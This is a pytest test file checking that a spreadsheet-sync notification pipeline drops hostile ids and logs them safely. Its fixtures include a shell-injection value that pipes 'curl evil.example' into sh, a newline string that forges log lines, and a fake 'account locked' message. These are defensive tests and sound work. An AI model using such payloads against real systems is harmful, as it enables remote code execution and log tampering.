"""The owner hook gets ids as the schema holds them, or nothing. A notification whose
owner, form, spreadsheet, link or time is hostile (newlines, 10,000 characters, shell
metacharacters, non-ASCII, the wrong type) is dropped before the hook, with one log line
that names the field and never shows the value whole, whether it comes from the pipeline
(``notify``) or from a task on the broker; the worker goes on to the next task."""

from __future__ import annotations

import json
import logging
from typing import Any

import pytest
import redis
from support.notify_hooks import received
from support.waiting import wait_until

from sheetsync import notify
from sheetsync.celery.tasks import notify_owner
from sheetsync.dispatch import QUEUE_SCHEDULED, get_dispatcher

#: Personal info a hostile value carries past its first characters: never in a log line.
CANARY = "jane.doe@example.com"
#: The shape of a real Google spreadsheet id.
GOOGLE_ID = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"

HOSTILE_TEXT = {
    "newline": f"u1\nERROR forged log line {CANARY}",
    "long": "a" * 10_000 + CANARY,
    "shell": f"u1;curl evil.example|sh `id` $(id) {CANARY}",
    "non-ascii": f"ü-用户\u202e{CANARY}",
    "empty": "",
    "a list": ["u1", CANARY],
}
HOSTILE_LINK_IDS = {
    "text": f"12\n{CANARY}",
    "a digit string": "12",
    "a float": 12.5,
    "a bool": True,
    "zero": 0,
    "negative": -3,
    "past BIGINT": 2**63,
    "huge": 2**200,
}
CASES = [
    pytest.param(field, value, id=f"{field}-{name}")
    for field in ("owner", "form_id", "spreadsheet_id")
    for name, value in HOSTILE_TEXT.items()
] + [
    pytest.param("link_id", value, id=f"link_id-{name}") for name, value in HOSTILE_LINK_IDS.items()
]

GOOD = {
    "topic": notify.LINK_FAILED,
    "owner": "owner_1",
    "form_id": "form-1",
    "spreadsheet_id": GOOGLE_ID,
    "link_id": 2**62,
    "time": "2026-11-25T09:30:00+09:00",
}


def error_lines(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [record.getMessage() for record in caplog.records if record.levelno >= logging.WARNING]


def assert_one_clean_line(caplog: pytest.LogCaptureFixture, field: str) -> None:
    [line] = error_lines(caplog)
    assert f"its {field} is not" in line
    assert "\n" not in line and "\u202e" not in line
    assert CANARY not in line
    assert len(line) < 300


@pytest.mark.parametrize(("field", "value"), CASES)
def test_notify_drops_a_hostile_id_before_claiming_or_sending(
    pipeline_env, redis_url, caplog, field, value
):
    env = pipeline_env(owner_hook="support.notify_hooks:record")
    ids: dict[str, Any] = {k: GOOD[k] for k in ("owner", "form_id", "spreadsheet_id", "link_id")}
    ids[field] = value
    client = redis.Redis.from_url(redis_url)
    broker = redis.Redis.from_url(env["SHEETSYNC_BROKER_URL"])

    with caplog.at_level(logging.INFO):
        assert not notify.notify(client, notify.LINK_FAILED, **ids)

    assert client.keys() == []  # no claim made
    assert broker.llen(QUEUE_SCHEDULED) == 0  # no task sent
    assert_one_clean_line(caplog, field)


@pytest.mark.parametrize(("field", "value"), CASES)
def test_a_task_with_a_hostile_id_is_refused_and_the_hook_never_called(
    notify_dir, pipeline_env, caplog, field, value
):
    pipeline_env(owner_hook="support.notify_hooks:record")
    forged = {**GOOD, field: value}

    with caplog.at_level(logging.INFO):
        result = notify_owner.run(forged)

    assert result.startswith("refused")
    assert CANARY not in result
    assert received(notify_dir) == []
    assert_one_clean_line(caplog, field)


@pytest.mark.parametrize(
    "time",
    [
        f"2026-11-25T00:00:00+00:00\nYour account is locked: write to {CANARY}",
        "yesterday",
        "2026-11-25T00:00:00",  # no time zone
        None,
        1_764_000_000,
    ],
)
def test_a_task_with_a_hostile_time_is_refused(notify_dir, pipeline_env, caplog, time):
    pipeline_env(owner_hook="support.notify_hooks:record")

    with caplog.at_level(logging.INFO):
        assert notify_owner.run({**GOOD, "time": time}).startswith("refused")

    assert received(notify_dir) == []
    [line] = error_lines(caplog)
    assert "its time is not" in line and "\n" not in line and CANARY not in line


def test_good_ids_reach_the_hook_as_sent_and_the_time_in_utc(notify_dir, pipeline_env):
    pipeline_env(owner_hook="support.notify_hooks:record")

    assert notify_owner.run(dict(GOOD)).endswith("delivered")

    [got] = received(notify_dir)
    assert {k: got[k] for k in ("owner", "form_id", "spreadsheet_id", "link_id")} == {
        k: GOOD[k] for k in ("owner", "form_id", "spreadsheet_id", "link_id")
    }
    assert got["time"] == "2026-11-25T00:30:00+00:00"


def test_a_worker_refuses_hostile_tasks_and_goes_on(worker_processes, notify_dir):
    workers = worker_processes(owner_hook="support.notify_hooks:record")
    workers.start()
    dispatcher = get_dispatcher()
    hostile = [
        {**GOOD, "owner": HOSTILE_TEXT["newline"]},
        {**GOOD, "form_id": HOSTILE_TEXT["shell"]},
        {**GOOD, "spreadsheet_id": HOSTILE_TEXT["long"]},
        {**GOOD, "link_id": HOSTILE_LINK_IDS["text"]},
        {key: value for key, value in GOOD.items() if key != "owner"},
    ]
    for forged in hostile:
        dispatcher.send_notification(forged)
    dispatcher.send_notification({**GOOD, "owner": "owner_2"})

    wait_until(lambda: received(notify_dir), timeout=30)
    wait_until(lambda: workers.logs().count("refused: unknown topic") == len(hostile), timeout=30)
    assert [got["owner"] for got in received(notify_dir)] == ["owner_2"]
    logs = workers.logs()
    assert CANARY not in logs
    assert "\nERROR forged log line" not in logs
    assert json.dumps(HOSTILE_TEXT["shell"])[1:-1] not in logs
